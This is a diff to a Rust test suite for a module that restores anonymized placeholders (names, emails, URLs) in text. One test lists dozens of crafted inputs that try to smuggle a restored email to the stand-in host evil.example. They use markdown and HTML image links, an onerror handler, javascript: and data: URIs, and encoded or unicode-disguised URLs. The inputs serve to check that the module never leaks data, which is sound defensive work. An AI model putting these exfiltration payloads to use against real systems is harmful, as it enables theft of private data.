@@ -1,7 +1,13 @@
 use std::sync::Arc;
 
 use super::*;
-use crate::anonymize::{Original, restore::Forms};
+use crate::{
+    anonymize::{
+        Original,
+        restore::{Forms, MapEntry, Options, by_map},
+    },
+    text::Unit,
+};
 
 const HOSTS: [&str; 2] = ["good.example", "*.corp.example"];
 
@@ -90,6 +96,8 @@ fn waits_only_for_what_may_still_become_a_name() {
     for (text, waiting) in [
         ("Hello", 0),
         ("Hello [", 1),
+        ("a\\", 1),
+        ("a\\b", 0),
         ("[PERSON_", 8),
         ("[PERSON_2", 0),
         ("[PERSON_1]", 0),
@@ -140,7 +148,7 @@ fn nothing_is_put_where_others_could_fetch_it() {
         "https://good.exampleE",
         "https://good。example/E",
         "https://good.example。evil/E",
-        "HTTPS://EVIL.example/?q=E",
+        "HTTPS://Other.example/?q=E",
         "hTTps:evil.example/E",
         "https:/evil.example/E",
         "https:\\\\evil.example\\E",
@@ -164,9 +172,25 @@ fn nothing_is_put_where_others_could_fetch_it() {
         "<p style=\"background:url(/\\evil.example/E)\">",
         "<p style=\"background:\\75rl(/\\evil.example/E)\">",
         "url(/\\evil.example/E)",
+        "<img src=x onerror=\"f('/\\evil.example/','E')\">",
         "https://evil.example/a\u{3000}E",
         "https://evil.example/a,E",
         "https://evil.example/[a](b)E",
+        "](https://evil.example/a)?q=E",
+        "[b [a](https://good.example/ ](/\\evil.example/E)",
+        "[b <img src=\"https://good.example/](/\\evil.example/E)",
+        "<img src=\"/\\evil.example/](x)E\">",
+        "[b <img src=\"](/\\evil.example/\"E)",
+        "<a href=\"https://good.example\n.evil.example/E\">",
+        "<a href=\"https://good.example\t.evil.example/E\">",
+        "![](https:&#47;&#47;evil.example/E)",
+        "[a](javascript:f('E'))",
+        "![](data:text/html,E)",
+        "<image xlink:href='/\\evil.example/E'/>",
+        "https\u{ff1a}//evil.example/E",
+        "https:\u{2044}\u{2044}evil.example/E",
+        "https://good.example./E",
+        "https://good.example:80E",
         "[a](b](/\\evil.example/E)",
         "https://&#101;vil.example/E",
         "https://[::1]/E",
@@ -181,7 +205,7 @@ fn nothing_is_put_where_others_could_fetch_it() {
         "[a]([URL_1].evil.example/?E)",
     ] {
         for form in [e, "%5BEMAIL_ADDRESS_1%5D", "[email_address_1]", "\\[EMAIL\\_ADDRESS\\_1\\]"] {
-            let text = text.replace('E', form).replace("HTTPS", "HTTPS");
+            let text = text.replace('E', form);
             assert!(!restored(&live, &text).contains("ada@"), "{text} -> {}", restored(&live, &text));
         }
     }
@@ -209,7 +233,9 @@ fn restores_in_urls_that_may_have_it() {
         ("[a]([URL_1]) ![]([URL_2])", "[a](https://intra.corp) ![]([URL_2])"),
         ("see [URL_1]. [URL_2]x ([URL_1]/y)", "see https://intra.corp. https://intra.corp/a/bx (https://intra.corp/y)"),
         ("{\"u\":\"[URL_1]\",\"v\":\"[PERSON_1]\"}", "{\"u\":\"https://intra.corp\",\"v\":\"Ada\"}"),
+        ("https://good.example/?src=[PERSON_1]&a", "https://good.example/?src=Ada&a"),
         // Text beside links is text.
+        ("[a](https://evil.example/a),[PERSON_1]", "[a](https://evil.example/a),Ada"),
         ("https://evil.example/ [PERSON_1]", "https://evil.example/ Ada"),
         ("[[PERSON_1]](https://evil.example/), [PERSON_1]", "[Ada](https://evil.example/), Ada"),
         ("[PERSON_1]([EMAIL_ADDRESS_1])", "Ada(ada@example.com)"),
@@ -228,11 +254,51 @@ fn restores_in_urls_that_may_have_it() {
 }
 
 #[test]
+fn agrees_with_restoring_by_map() {
+    let names =
+        [("[PERSON_1]", "Ada"), ("[PERSON_12]", "[PERSON_1]"), ("Eve", "Ann"), ("Eve Miller", "Bo"), ("日本", "x")];
+    let live = Live::new(
+        names.map(|(name, original)| (name.into(), Original::new(original))),
+        false,
+        &Forms::default(),
+        Arc::default(),
+    );
+    let map = names.map(|(replacement, original)| MapEntry { original, replacement, position: None });
+    let options =
+        Options { cipher: None, is_label: &|_| true, tolerant: false, taken: &Forms::default(), max_bytes: 1 << 20 };
+    let pieces =
+        ["[PERSON_1", "]", "[", "2]", "Eve", " Miller", " ", "s", "日", "本", "é", "\u{301}", "[PERSON_1]", "-"];
+    let mut seed = 5_u64;
+    for _ in 0..1000 {
+        let mut text = String::new();
+        for _ in 0..8 {
+            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+            text.push_str(pieces[(seed >> 33) as usize % pieces.len()]);
+        }
+        let expected = by_map(&[&text], &map, Unit::Byte, &options).unwrap();
+        assert_eq!(restored(&live, &text), expected.texts[0], "{text}");
+    }
+}
+
+#[test]
 fn takes_time_in_proportion_to_the_text() {
     let live = usual();
-    for piece in
-        ["[", "[a", "[PERSON ", "[PERSON_1 ", "E", "Eve ", "`p", "&#91;", "](", "https://", "src=", "%5b", "www."]
-    {
+    for piece in [
+        "[",
+        "[a",
+        "[PERSON ",
+        "[PERSON_1 ",
+        "E",
+        "Eve ",
+        "`p",
+        "&#91;",
+        "](",
+        "https://",
+        "src=",
+        "src=\"](",
+        "%5b",
+        "www.",
+    ] {
         let text = piece.repeat(100_000);
         assert!(Restorer::restore(&live, &text).is_none_or(|out| out.len() < 2_000_000));
     }
